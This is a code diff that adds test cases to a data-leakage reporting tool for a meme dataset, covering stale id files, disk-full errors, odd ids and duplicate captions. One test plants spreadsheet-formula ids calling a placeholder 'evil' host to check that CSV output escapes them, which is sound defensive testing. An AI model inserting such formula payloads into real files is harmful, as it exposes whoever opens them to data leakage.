@@ -549,6 +549,100 @@ def crafted_model(lab):
     return run
 
 
+def _leakage_report(lab: Lab, name: str, data: Path | None = None) -> tuple[Run, Path]:
+    out = lab.root / name
+    return lab.cli("leakage", "report", data or lab.base, "--out", out), out
+
+
+def _tree(folder: Path) -> dict[str, str]:
+    return {p.relative_to(folder).as_posix(): sha(p) for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+@case("leakage: stale clean_ids beside a new report")
+def leak_stale_clean_ids(lab):
+    run, out = _leakage_report(lab, "leak_stale")
+    assert run.exit_code == 0, run.output
+    stale = out / "clean_ids" / "dev_seen.txt"
+    ids = stale.read_text().splitlines()
+    leaked = next(m.id for m in lab.dataset.split("dev_seen") if m.id not in ids)
+    stale.write_text("".join(f"{i}\n" for i in ids + [leaked]))  # one more "clean" id than the report says
+    run = lab.cli("train-head", "logreg", "--store", lab.clean, "--feature-set", SET, "--clean-ids", out)
+    assert_clear(run, 2, "dev_seen.txt", f"{len(ids) + 1} ids", f"{len(ids)} clean ids", "manifest.json")
+    return run
+
+
+@case("leakage: disk full while writing the report")
+def leak_disk_full(lab):
+    run, out = _leakage_report(lab, "leak_full")
+    assert run.exit_code == 0, run.output
+    before = _tree(out)
+    limit = max((out / f).stat().st_size for f in before) // 2
+    args = ["leakage", "report", lab.base, "--out", out]
+    code = spawn(args, out.parent / "leak_full.log", preexec_fn=_file_limit(limit)).wait(timeout=300)
+    run = Run("memeprobe " + lab.short(" ".join(map(str, args))) + "  # RLIMIT_FSIZE", code,
+              (out.parent / "leak_full.log").read_text())
+    assert_clear(run, 2, str(out), "disk is full")
+    assert _tree(out) == before, "the earlier report was changed"
+    assert not list(out.parent.glob(".leak_full.*")), "a temporary report folder was left behind"
+    return run
+
+
+def _renamed_dev(lab: Lab, name: str, rename) -> tuple[Path, list[dict]]:
+    """A copy whose dev_seen ids are ``rename(id)``; returns it and the dev rows."""
+    data = lab.copy(name)
+    f = data / "dev_seen.jsonl"
+    rows = [json.loads(line) for line in f.read_text().splitlines()]
+    for r in rows:
+        r["id"] = rename(r["id"])
+    f.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    return data, rows
+
+
+@case("leakage: id with a line break")
+def leak_newline_id(lab):
+    data, _ = _renamed_dev(lab, "leak_newline", lambda i: f"{i}\nx")
+    run, out = _leakage_report(lab, "leak_newline_out", data)
+    assert_clear(run, 2, r"\nx' (split dev_seen)", "line break")
+    assert not out.exists()
+    return run
+
+
+@case("leakage: ids that start a spreadsheet formula")
+def leak_formula_ids(lab):
+    data, rows = _renamed_dev(lab, "leak_formula", lambda i: f"=HYPERLINK(\"http://evil/{i}\")")
+    run, out = _leakage_report(lab, "leak_formula_out", data)
+    assert run.exit_code == 0 and "Traceback" not in run.output, run.output
+    import csv
+
+    with open(out / "pairs.csv", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
+    formulas = [c for c in cells if c.startswith(("=", "+", "-", "@")) and not c.lstrip("-").isdigit()]
+    assert not formulas, f"formula cells in pairs.csv: {formulas[:3]}"  # (-1: no label, a number)
+    exact = {p["id_b"] for p in json.loads((out / "report.json").read_text())["pairs"]} | set(
+        (out / "clean_ids" / "dev_seen.txt").read_text().splitlines())
+    assert {r["id"] for r in rows} <= exact  # report.json and clean_ids keep the exact ids
+    return Run(run.command, run.exit_code, "pairs.csv: formula cells start with ' (report.json keeps exact ids)\n")
+
+
+@case("leakage: every meme has the same caption")
+def leak_one_caption(lab):
+    data = lab.copy("leak_caption")
+    for f in data.glob("*.jsonl"):
+        f.write_text("".join(json.dumps({**json.loads(ln), "text": "same words"}) + "\n"
+                             for ln in f.read_text().splitlines()))
+    n = len(lab.dataset.memes)
+    run = lab.cli("leakage", "report", data, "--out", lab.root / "leak_caption_out", "--max-group-pairs", 50, "--json")
+    assert run.exit_code == 0 and "Traceback" not in run.output, run.output
+    doc = json.loads((lab.root / "leak_caption_out" / "report.json").read_text())
+    assert doc["groups"][0]["size"] == n and len(doc["pairs"]) <= 5 * n < n * (n - 1) // 2
+    clean = {s: len((lab.root / "leak_caption_out" / "clean_ids" / f"{s}.txt").read_text().splitlines())
+             for s in ("dev_seen", "test_unseen")}
+    assert clean == {"dev_seen": 0, "test_unseen": 0}  # every eval meme has a train copy
+    return Run(run.command, run.exit_code, f"one group of {n}, {len(doc['pairs'])} pairs listed "
+               f"(not {n * (n - 1) // 2}), no clean eval meme\n")
+
+
 # ---------------------------------------------------------------- pytest and script entry points
 @pytest.fixture(scope="module")
 def lab(tmp_path_factory):
